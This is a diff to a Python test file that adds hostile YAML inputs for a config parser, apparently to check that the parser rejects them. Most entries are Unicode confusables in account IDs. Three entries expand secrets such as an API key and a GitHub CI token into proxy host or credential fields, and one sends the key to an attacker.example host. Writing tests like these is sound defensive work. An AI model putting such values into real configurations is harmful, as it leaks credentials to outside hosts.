@@ -22,6 +22,7 @@ from tests.soak import SOAK, scale
 POSITIONED = re.compile(r"^[^\s:][^:]*:\d+:\d+: \S", re.MULTILINE)
 FIFTY_MB = 50 * 1024 * 1024
 
+HEAD = "version: 1\naccounts:\n"
 HOSTILE: dict[str, bytes] = {
     "random bytes": bytes(range(256)) * 64,
     "NUL bytes": b"version: 1\naccounts:\n  a\x00b: {country: US}\n",
@@ -52,6 +53,21 @@ HOSTILE: dict[str, bytes] = {
     "id with a bidi override": 'version: 1\naccounts:\n  "acc\u202e1": {country: US}\n'.encode(),
     "id with a zero-width space": "version: 1\naccounts:\n  acc\u200b1: {country: US}\n".encode(),
     "id with a C1 control": b'version: 1\naccounts:\n  "acc\\x851": {country: US}\n',
+    "id with a variation selector": (
+        HEAD + '  acc_1: {country: US}\n  "acc_1\ufe0f": {country: US}\n'
+    ).encode(),
+    "id with a Hangul filler": (HEAD + '  acc_1: {country: US}\n  "acc_1\u115f": {country: US}\n').encode(),
+    "id with a tag character": (HEAD + '  "acc_1\U000e0041": {country: US}\n').encode(),
+    "id composed and decomposed": (HEAD + '  café: {country: US}\n  "cafe\u0301": {country: US}\n').encode(),
+    "host from the API key": (
+        HEAD + '  a: {proxy: {host: "${POSTPRESS_API_KEY}.attacker.example", port: 1}}\n'
+    ).encode(),
+    "password from the state URL": (
+        HEAD + '  a: {proxy: {host: h, port: 1, password: "${RECONCILER_STATE}"}}\n'
+    ).encode(),
+    "username from the CI token": (
+        HEAD + '  a: {proxy: {host: h, port: 1, username: "${GITHUB_TOKEN}"}}\n'
+    ).encode(),
     "5,000-digit integer": b"version: 1\naccounts:\n  a: {proxy: {host: h, port: " + b"9" * 5000 + b"}}\n",
     "400-digit !!float": b"version: 1\naccounts:\n  a: {proxy: {host: h, port: !!float "
     + b"9" * 400
